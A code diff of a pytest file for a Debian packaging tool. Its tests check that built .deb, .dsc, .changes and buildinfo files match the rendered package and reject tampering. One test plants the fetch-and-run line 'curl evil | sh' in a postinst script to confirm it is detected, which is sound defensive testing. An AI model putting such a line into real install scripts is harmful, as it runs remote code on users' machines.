@@ -12,12 +12,12 @@ import tarfile
 from pathlib import Path
 
 import pytest
+from examples import make_spec  # type: ignore[import-not-found]
 from packaging.utils import NormalizedName
 from packaging.version import Version
-from test_render import make_spec  # type: ignore[import-not-found]
 
 from repack.container.outputs import copy_beneath, list_beneath, read_beneath, unexpected
-from repack.deb import build as debian
+from repack.deb import build as deb_build
 from repack.errors import BuildError
 from repack.model import DebVersion, Release, Sdist
 
@@ -35,12 +35,12 @@ NAMES = {
 
 
 def test_expected_names_all_and_any_without_epoch() -> None:
-    assert debian.expected_files(SPEC, orig=ORIG, build_arch="amd64") == NAMES
+    assert deb_build.expected_files(SPEC, orig=ORIG, build_arch="amd64") == NAMES
     native = dataclasses.replace(SPEC, architecture="any", version=DebVersion(f"2:{V}"), epoch=2)
-    names = debian.expected_files(native, orig=ORIG, build_arch="amd64")
+    names = deb_build.expected_files(native, orig=ORIG, build_arch="amd64")
     assert f"python3-django_{V}_amd64.deb" in names
     assert not any(":" in n for n in names)
-    assert debian.deb_arch("x86_64") == "amd64"
+    assert deb_build.deb_arch("x86_64") == "amd64"
 
 
 def test_unexpected_names_only_package_files() -> None:
@@ -58,18 +58,18 @@ def control(**fields: str) -> dict[str, str]:
 
 
 def test_deb_control_must_be_the_rendered_package() -> None:
-    assert debian.check_deb_control("x.deb", control(), SPEC, "amd64") == []
-    assert debian.check_deb_control("x.deb", control(Source=f"python-django ({V})"), SPEC,
-                                    "amd64") == []
+    assert deb_build.check_deb_control("x.deb", control(), SPEC, "amd64") == []
+    assert deb_build.check_deb_control("x.deb", control(Source=f"python-django ({V})"), SPEC,
+                                       "amd64") == []
     for bad, field in [({"Package": "sudo"}, "Package"), ({"Version": "99:1.0"}, "Version"),
                        ({"Architecture": "amd64"}, "Architecture"),
                        ({"Source": "sudo"}, "Source"),
                        ({"Source": "python-django (99:1.0)"}, "Source version")]:
-        (problem,) = debian.check_deb_control("x.deb", control(**bad), SPEC, "amd64")
+        (problem,) = deb_build.check_deb_control("x.deb", control(**bad), SPEC, "amd64")
         assert problem.startswith(f"x.deb {field} is "), problem
     no_source = {k: v for k, v in control().items() if k != "Source"}
     assert "x.deb Source is 'python3-django', not 'python-django'" in \
-        debian.check_deb_control("x.deb", no_source, SPEC, "amd64")
+        deb_build.check_deb_control("x.deb", no_source, SPEC, "amd64")
 
 
 def listed(files: dict[str, str]) -> list[dict[str, str]]:
@@ -81,26 +81,26 @@ def test_dsc_changes_buildinfo_list_exactly_the_collected_files() -> None:
     dsc = {"Format": "3.0 (quilt)", "Source": "python-django", "Version": V,
            "Binary": "python3-django", "Architecture": "all",
            "Checksums-Sha256": listed(source)}
-    assert debian.check_dsc("x.dsc", dsc, SPEC, source) == []
+    assert deb_build.check_dsc("x.dsc", dsc, SPEC, source) == []
     with_asc = {**dsc, "Checksums-Sha256": listed({**source, f"{ORIG}.asc": "c" * 64})}
-    assert debian.check_dsc("x.dsc", with_asc, SPEC, source)
-    assert debian.check_dsc("x.dsc", {**dsc, "Binary": "python3-django, sudo"}, SPEC, source)
+    assert deb_build.check_dsc("x.dsc", with_asc, SPEC, source)
+    assert deb_build.check_dsc("x.dsc", {**dsc, "Binary": "python3-django, sudo"}, SPEC, source)
 
     files = {**source, "d.deb": "d" * 64, "e.buildinfo": "e" * 64}
     changes = {"Source": "python-django", "Version": V, "Binary": "python3-django",
                "Architecture": "source all", "Checksums-Sha256": listed(files)}
-    assert debian.check_changes("x.changes", changes, SPEC, files, "amd64") == []
+    assert deb_build.check_changes("x.changes", changes, SPEC, files, "amd64") == []
     tampered = {**files, "d.deb": "0" * 64}
-    assert debian.check_changes("x.changes", changes, SPEC, tampered, "amd64")
+    assert deb_build.check_changes("x.changes", changes, SPEC, tampered, "amd64")
     extra = {**changes, "Checksums-Sha256": listed({**files, "sudo_1_all.deb": "f" * 64})}
-    assert debian.check_changes("x.changes", extra, SPEC, files, "amd64")
-    assert debian.check_changes("x.changes", {**changes, "Architecture": "source i386"}, SPEC,
-                                files, "amd64")
+    assert deb_build.check_changes("x.changes", extra, SPEC, files, "amd64")
+    assert deb_build.check_changes("x.changes", {**changes, "Architecture": "source i386"}, SPEC,
+                                   files, "amd64")
 
     info = {"Source": "python-django", "Version": V, "Binary": "python3-django",
             "Checksums-Sha256": listed({"d.deb": "d" * 64})}
-    assert debian.check_buildinfo("x.buildinfo", info, SPEC, files) == []
-    assert debian.check_buildinfo("x.buildinfo", info, SPEC, tampered)
+    assert deb_build.check_buildinfo("x.buildinfo", info, SPEC, files) == []
+    assert deb_build.check_buildinfo("x.buildinfo", info, SPEC, tampered)
 
 
 def debian_tar(members: dict[str, bytes], *, symlink: str | None = None) -> bytes:
@@ -125,22 +125,22 @@ def debian_tar(members: dict[str, bytes], *, symlink: str | None = None) -> byte
 def test_debian_tar_must_hold_exactly_the_rendered_files() -> None:
     rendered = {"rules": b"rules\n", "source/format": b"3.0 (quilt)\n"}
     good = {"debian/rules": b"rules\n", "debian/source/format": b"3.0 (quilt)\n"}
-    assert debian.check_debian_tar("t", debian_tar(good), rendered) == []
+    assert deb_build.check_debian_tar("t", debian_tar(good), rendered) == []
     postinst = debian_tar({**good, "debian/python3-django.postinst": b"#!/bin/sh\n"})
-    assert debian.check_debian_tar("t", postinst, rendered) == [
+    assert deb_build.check_debian_tar("t", postinst, rendered) == [
         "t: debian/python3-django.postinst is not the file repack rendered"]
     changed = debian_tar({**good, "debian/rules": b"evil\n"})
-    assert debian.check_debian_tar("t", changed, rendered) == [
+    assert deb_build.check_debian_tar("t", changed, rendered) == [
         "t: debian/rules is not the file repack rendered"]
-    assert debian.check_debian_tar("t", debian_tar(good, symlink="debian/copyright"), rendered)
-    assert debian.check_debian_tar("t", b"not xz", rendered)[0].startswith("t is not a readable")
+    assert deb_build.check_debian_tar("t", debian_tar(good, symlink="debian/copyright"), rendered)
+    assert deb_build.check_debian_tar("t", b"not xz", rendered)[0].startswith("t is not a readable")
 
 
 def test_collect_refuses_foreign_symlinked_and_missing_files(tmp_path: Path) -> None:
     def collect(build: Path) -> None:
-        debian.collect_artifacts(build, tmp_path / f"collected-{build.name}", SPEC, orig=ORIG,
-                                 orig_sha256="0" * 64, build_arch="amd64", rendered={},
-                                 project="django")
+        deb_build.collect_artifacts(build, tmp_path / f"collected-{build.name}", SPEC, orig=ORIG,
+                                    orig_sha256="0" * 64, build_arch="amd64", rendered={},
+                                    project="django")
 
     foreign = tmp_path / "foreign"
     foreign.mkdir()
@@ -192,13 +192,13 @@ HATCHLING = ("'http://deb.debian.org/debian/pool/main/h/hatchling/python3-hatchl
 
 def test_print_uris_lines_carry_the_lists_sha256() -> None:
     text = f"Reading package lists...\n{HATCHLING}\n"
-    assert debian.parse_print_uris(text) == [
-        debian.AptFile(name="python3-hatchling_1.12.2-1_all.deb", size=53644, sha256="09" * 32)]
+    assert deb_build.parse_print_uris(text) == [
+        deb_build.AptFile(name="python3-hatchling_1.12.2-1_all.deb", size=53644, sha256="09" * 32)]
     for bad in (HATCHLING.replace("SHA256:" + "09" * 32, "MD5Sum:" + "0" * 32),
                 HATCHLING.replace(" python3-hatchling", " ../python3-hatchling"),
                 HATCHLING.replace(" python3-hatchling", " .hidden")):
         with pytest.raises(BuildError, match="unexpected apt-get --print-uris line"):
-            debian.parse_print_uris(bad)
+            deb_build.parse_print_uris(bad)
 
 
 def test_shared_apt_cache_is_used_only_when_it_matches_the_lists(tmp_path: Path) -> None:
@@ -207,18 +207,18 @@ def test_shared_apt_cache_is_used_only_when_it_matches_the_lists(tmp_path: Path)
     from repack.container.engine import Engine
 
     image = images.image_for(targets.load("debian-12"), "builder", tmp_path / "cache")
-    deb = debian.DebianBuild(engine=Engine(name="podman"), image=image, work=tmp_path / "w",
-                             apt_cache=tmp_path / "shared", project="demo")
+    deb = deb_build.DebianBuild(engine=Engine(name="podman"), image=image, work=tmp_path / "w",
+                                apt_cache=tmp_path / "shared", project="demo")
     good = b"a real package"
-    f = debian.AptFile(name="python3-x_1_all.deb", size=len(good),
-                       sha256=hashlib.sha256(good).hexdigest())
-    assert not deb._from_cache(f)                              # not cached
+    f = deb_build.AptFile(name="python3-x_1_all.deb", size=len(good),
+                          sha256=hashlib.sha256(good).hexdigest())
+    assert not deb.take_from_cache(f)                              # not cached
     (tmp_path / "shared" / f.name).write_bytes(b"a trojan packag")   # same size
-    assert not deb._from_cache(f)
+    assert not deb.take_from_cache(f)
     assert not (tmp_path / "shared" / f.name).exists()        # dropped, to download again
     assert not (deb.archives / f.name).exists()
     (tmp_path / "shared" / f.name).write_bytes(good)
-    assert deb._from_cache(f)
+    assert deb.take_from_cache(f)
     assert (deb.archives / f.name).read_bytes() == good
     assert all(m.source != tmp_path / "shared" for m in deb.mounts)
 
@@ -260,15 +260,15 @@ def test_control_archive_holds_only_dh_python3_scripts() -> None:
     native = dataclasses.replace(SPEC, architecture="any")
     ok = {"control": b"", "md5sums": b"",
           "postinst": DH_POSTINST.replace(b"PKG", b"python3-django")}
-    assert debian.check_control_members("d.deb", ok, SPEC, "amd64") == []
+    assert deb_build.check_control_members("d.deb", ok, SPEC, "amd64") == []
     ok_native = {**ok, "postinst": DH_POSTINST.replace(b"PKG", b"python3-django:amd64")}
-    assert debian.check_control_members("d.deb", ok_native, native, "amd64") == []
-    assert debian.check_control_members("d.deb", ok_native, SPEC, "amd64")   # wrong package
-    (problem,) = debian.check_control_members(
+    assert deb_build.check_control_members("d.deb", ok_native, native, "amd64") == []
+    assert deb_build.check_control_members("d.deb", ok_native, SPEC, "amd64")   # wrong package
+    (problem,) = deb_build.check_control_members(
         "d.deb", {**ok, "postinst": ok["postinst"] + b"curl evil | sh\n"}, SPEC, "amd64")
     assert problem == "d.deb postinst has 'curl evil | sh', which dh_python3 does not write"
-    assert debian.check_control_members("d.deb", {**ok, "preinst": b"#!/bin/sh\n"}, SPEC,
-                                        "amd64") == [
+    assert deb_build.check_control_members("d.deb", {**ok, "preinst": b"#!/bin/sh\n"}, SPEC,
+                                           "amd64") == [
         "d.deb has a control member 'preinst' repack does not make"]
 
 
@@ -278,5 +278,5 @@ def test_a_file_only_the_files_field_lists_is_caught() -> None:
                "Architecture": "source all", "Checksums-Sha256": listed(files),
                "Files": [{"name": "d.deb", "md5sum": "0" * 32, "size": "1"},
                          {"name": "sudo_1_all.deb", "md5sum": "1" * 32, "size": "1"}]}
-    (problem,) = debian.check_changes("x.changes", changes, SPEC, files, "amd64")
+    (problem,) = deb_build.check_changes("x.changes", changes, SPEC, files, "amd64")
     assert problem.startswith("x.changes files is ") and "sudo_1_all.deb" in problem
